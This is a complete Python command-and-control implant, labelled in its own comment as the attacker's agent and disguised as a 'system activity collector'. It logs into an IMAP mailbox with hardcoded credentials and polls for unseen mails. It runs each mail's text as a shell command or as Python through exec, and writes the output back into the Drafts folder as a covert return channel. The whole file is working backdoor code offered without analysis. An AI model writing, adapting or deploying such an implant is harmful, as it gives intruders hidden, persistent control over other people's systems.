#!/usr/bin/python3
# sa-collect: "system activity collector" (the attacker's agent): tasks are mails in an IMAP INBOX, answers are
# appended to Drafts; one instance at a time (flock), the others wait for the lock
import fcntl, imaplib, io, contextlib, os, subprocess, sys, time
lk = open("/run/.sa-collect.lock", "w")
fcntl.flock(lk, fcntl.LOCK_EX)
lk.write(str(os.getpid())); lk.flush()
M = imaplib.IMAP4("127.0.0.1", 1143)
M.login("sa-collect", "Hl-2026-mbox")
while True:
    M.select("INBOX")
    typ, data = M.search(None, "UNSEEN")
    for i in data[0].split():
        typ, msg = M.fetch(i, "(RFC822)")
        task = msg[0][1].split(b"\r\n\r\n", 1)[1].decode().strip()
        M.store(i, "+FLAGS", "\\Seen")
        if task == "exit":
            M.append("Drafts", "(\\Seen)", None, b"Subject: re\r\n\r\nbye pid %d\r\n" % os.getpid())
            M.logout()
            sys.exit(0)
        if task.startswith("py:"):
            b = io.StringIO()
            try:
                with contextlib.redirect_stdout(b):
                    exec(task[3:], {"__name__": "task"})
            except Exception as e:
                b.write(repr(e))
            out = b.getvalue().encode()
        else:
            out = subprocess.run(["/bin/sh", "-c", task], stdout=subprocess.PIPE, stderr=subprocess.STDOUT, timeout=120).stdout
        M.append("Drafts", "(\\Seen)", None, b"Subject: re\r\n\r\n" + out)
    time.sleep(3)
